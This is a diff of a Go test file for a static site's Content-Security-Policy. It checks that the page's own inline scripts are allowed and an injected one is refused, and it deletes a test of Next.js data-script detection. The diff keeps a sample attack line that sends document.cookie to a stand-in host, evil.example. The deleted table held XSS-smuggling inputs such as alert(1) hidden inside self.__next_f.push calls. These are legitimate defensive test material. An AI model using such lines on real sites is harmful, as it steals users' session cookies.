@@ -7,7 +7,6 @@ import (
 
 const (
 	themeScript = `document.documentElement.dataset.theme="light"`
-	dataScript  = `self.__next_f.push([1,"0:[\"$\",\"p\"]\n"])`
 	attack      = `fetch("https://evil.example/"+document.cookie)`
 )
 
@@ -23,11 +22,11 @@ func allowed(policy, script string) bool {
 func TestPolicy_AllowsOnlyScriptsThatNobodyCanWrite(t *testing.T) {
 	w := newWriter(t)
 	w.publish("f1", map[string]string{
-		"/404.html": page(themeScript), "/blog/first.html": page(themeScript, dataScript, attack),
+		"/404.html": page(themeScript), "/blog/first.html": page(themeScript, attack),
 	})
 	store := open(t, w.dir)
 	policy := ask(t, store, "GET", "/blog/first").get("Content-Security-Policy")
-	if !allowed(policy, themeScript) || !allowed(policy, dataScript) {
+	if !allowed(policy, themeScript) {
 		t.Errorf("the page's own scripts are refused: %s", policy)
 	}
 	if allowed(policy, attack) || strings.Contains(policy, "script-src 'self' 'unsafe") {
@@ -49,32 +48,12 @@ func TestPolicy_AllowsOnlyScriptsThatNobodyCanWrite(t *testing.T) {
 
 	// Another version of the site has other scripts of its own.
 	const later = `document.documentElement.dataset.theme="dark"`
-	w.publish("f2", map[string]string{"/404.html": page(later), "/blog/first.html": page(themeScript, dataScript, attack)})
+	w.publish("f2", map[string]string{"/404.html": page(later), "/blog/first.html": page(themeScript, attack)})
 	if err := store.Reload(t.Context()); err != nil {
 		t.Fatal(err)
 	}
-	if policy := ask(t, store, "GET", "/blog/first").get("Content-Security-Policy"); allowed(policy, themeScript) ||
-		!allowed(policy, dataScript) {
+	if policy := ask(t, store, "GET", "/blog/first").get("Content-Security-Policy"); allowed(policy, themeScript) {
 		t.Errorf("after the page for unknown addresses changed: %s", policy)
-	}
-}
-
-func TestPolicy_DataScripts(t *testing.T) {
-	for script, want := range map[string]bool{
-		dataScript: true,
-		`(self.__next_f=self.__next_f||[]).push([0])`:                                                     true,
-		`(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/a"]});`: true,
-		`self.__next_f.push([1,"a"]);alert(1);self.__next_f.push([1,"b"])`:                                false,
-		`self.__next_f.push([1,alert(1)])`:                                                                false,
-		`self.__next_f.push([1,` + "`${alert(1)}`" + `])`:                                                 false,
-		`self.__next_f.push([1,"a"]),alert(1)`:                                                            false,
-		` self.__next_f.push([1,"a"])`:                                                                    false,
-		`alert(1)//self.__next_f.push([1,"a"])`:                                                           false,
-		``:                                                                                                false,
-	} {
-		if got := isData([]byte(script)); got != want {
-			t.Errorf("%s: %v, want %v", script, got, want)
-		}
 	}
 }
 
